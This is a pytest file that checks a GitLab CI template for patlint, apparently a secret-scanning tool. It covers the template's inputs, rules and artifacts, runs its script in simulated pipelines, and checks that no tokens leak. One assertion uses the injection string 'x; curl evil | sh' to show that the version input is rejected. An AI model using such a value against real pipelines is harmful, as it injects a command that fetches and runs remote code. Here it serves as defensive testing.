"""ci/gitlab/patlint.gitlab-ci.yml, the template to `include:`: its inputs, job, rules and
artifacts, then its script lines run by a shell as GitLab's runner would, with the job's
variables (inputs interpolated as GitLab does) and GitLab's predefined variables of a merge
request pipeline and of a new branch's push pipeline, in a real clone of a real upstream."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from patlint.cli.ci import REPORTS
from tests.cli.test_ci import Project, git
from tests.report.test_gitlab import code_quality_errors, secret_detection_errors
from tests.test_redaction_audit import leaks

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = ROOT / "ci" / "gitlab" / "patlint.gitlab-ci.yml"
HEADER, BODY = yaml.safe_load_all(TEMPLATE.read_text())
INPUTS = HEADER["spec"]["inputs"]
JOB = BODY["patlint"]


def test_header_declares_the_inputs_and_the_job_uses_them_only_through_variables() -> None:
    assert set(INPUTS) == {
        "version",
        "stage",
        "image",
        "path",
        "args",
        "offline",
        "fail-on",
        "history",
    }
    assert "default" not in INPUTS["version"]  # mandatory: the commit to install
    assert INPUTS["offline"] == {**INPUTS["offline"], "type": "boolean", "default": False}
    assert set(BODY) == {"patlint"}
    text = TEMPLATE.read_text().split("\n---\n", 1)[1]
    used = set(re.findall(r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]", text))
    assert used == set(INPUTS)
    for line in [*JOB["before_script"], *JOB["script"]]:
        assert isinstance(line, str), line  # `a: b` in a script line is a YAML mapping
        assert "$[[" not in line, line  # an input is data in a variable, never shell text
    variables = JOB["variables"]
    assert variables["GIT_DEPTH"] == "0"
    for name in ("path", "args", "offline", "fail-on", "history"):
        key = "PATLINT_" + name.upper().replace("-", "_")
        assert re.fullmatch(rf'"?\$\[\[ inputs\.{name} \]\]"?', str(variables[key])), key
    assert JOB["stage"] == "$[[ inputs.stage ]]" and JOB["image"] == "$[[ inputs.image ]]"
    assert re.fullmatch(INPUTS["version"]["regex"], "0123abcd" * 5)
    assert not re.fullmatch(INPUTS["version"]["regex"], "x; curl evil | sh")
    assert all(re.fullmatch(INPUTS["fail-on"]["regex"], v) for v in ("", "low", "critical"))


def test_rules_run_once_per_push_and_artifacts_are_what_patlint_ci_writes() -> None:
    assert JOB["rules"] == [
        {"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'},
        {"if": "$CI_OPEN_MERGE_REQUESTS", "when": "never"},
        {"if": "$CI_COMMIT_BRANCH"},
    ]
    artifacts = JOB["artifacts"]
    assert artifacts["when"] == "always"  # the reports also of a job failed by findings
    assert artifacts["reports"] == {
        "codequality": REPORTS["gitlab-codequality"],
        "secret_detection": REPORTS["gitlab-secret-detection"],
        "junit": REPORTS["junit"],
    }
    assert sorted(artifacts["paths"]) == sorted(REPORTS.values())
    assert JOB["script"] == ["patlint ci gitlab"]
    (pip,) = [ln for ln in JOB["before_script"] if "pip install" in ln]
    assert (
        '"patlint[fast] @ https://github.com/patlint/patlint/archive/${PATLINT_VERSION}.tar.gz"'
        in pip
    )


def job_env(inputs: dict[str, Any], predefined: dict[str, str]) -> dict[str, str]:
    """The job's environment: its variables with the inputs interpolated, GitLab's own."""
    values = {k: v.get("default") for k, v in INPUTS.items()}
    values.update(inputs)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CI_", "GITLAB_"))}
    for key, value in JOB["variables"].items():
        text = re.sub(
            r"\$\[\[\s*inputs\.([\w-]+)\s*\]\]",
            lambda m: (
                str(values[m.group(1)]).lower()
                if isinstance(values[m.group(1)], bool)
                else str(values[m.group(1)])
            ),
            str(value),
        )
        env[key] = text
    env["PATH"] = os.path.dirname(sys.executable) + os.pathsep + env.get("PATH", "")
    env.update(GITLAB_CI="true", CI="true", **predefined)
    return env


def run_job(project: Project, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """before_script (except the pip install: patlint is already installed here) and script,
    one `sh -e` as GitLab runs them."""
    lines = [ln for ln in JOB["before_script"] if "pip install" not in ln] + JOB["script"]
    return subprocess.run(
        ["sh", "-e", "-c", "\n".join(lines)],
        cwd=project.workspace,
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )


@pytest.fixture
def project(tmp_path: Path, token: Any, git_env: None) -> Project:
    return Project(tmp_path, token)


def test_merge_request_pipeline_produces_valid_reports(project: Project) -> None:
    env = job_env(
        {"version": "0" * 40, "offline": True},
        {
            "CI_PIPELINE_SOURCE": "merge_request_event",
            "CI_MERGE_REQUEST_IID": "5",
            "CI_MERGE_REQUEST_DIFF_BASE_SHA": project.base,
            "CI_COMMIT_SHA": project.head,
            "CI_DEFAULT_BRANCH": "main",
            "CI_PROJECT_DIR": str(project.workspace),
        },
    )
    done = run_job(project, env)
    assert done.returncode == 1, done.stdout + done.stderr  # findings fail the job
    assert "scanning the commits of merge request !5" in done.stdout
    ws = project.workspace
    quality = json.loads((ws / REPORTS["gitlab-codequality"]).read_text())
    secrets = json.loads((ws / REPORTS["gitlab-secret-detection"]).read_text())
    assert code_quality_errors(quality) == [] and secret_detection_errors(secrets) == []
    assert {i["location"]["path"] for i in quality} == {"deploy.env", "app.py"}
    texts = [done.stdout, done.stderr, *((ws / n).read_text() for n in REPORTS.values())]
    assert leaks("\n".join(texts), project.tokens) == []


def test_new_branch_pipeline_fetches_the_default_branch_to_compare(project: Project) -> None:
    # a runner's clone of the pushed branch only: no origin/main until the job fetches it
    ws = project.workspace
    git(ws, "update-ref", "-d", "refs/remotes/origin/main")
    git(ws, "update-ref", "-d", "refs/remotes/origin/feature")
    env = job_env(
        {"version": "v1", "offline": True, "fail-on": "high"},
        {
            "CI_PIPELINE_SOURCE": "push",
            "CI_COMMIT_BRANCH": "feature",
            "CI_DEFAULT_BRANCH": "main",
            "CI_COMMIT_BEFORE_SHA": "0" * 40,
            "CI_COMMIT_SHA": project.head,
        },
    )
    done = run_job(project, env)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "the pushed commits not on main (a new branch)" in done.stdout
    assert "legacy.env" not in done.stdout  # main's old token: not this branch's
    assert git(ws, "rev-parse", "refs/remotes/origin/main") == project.base
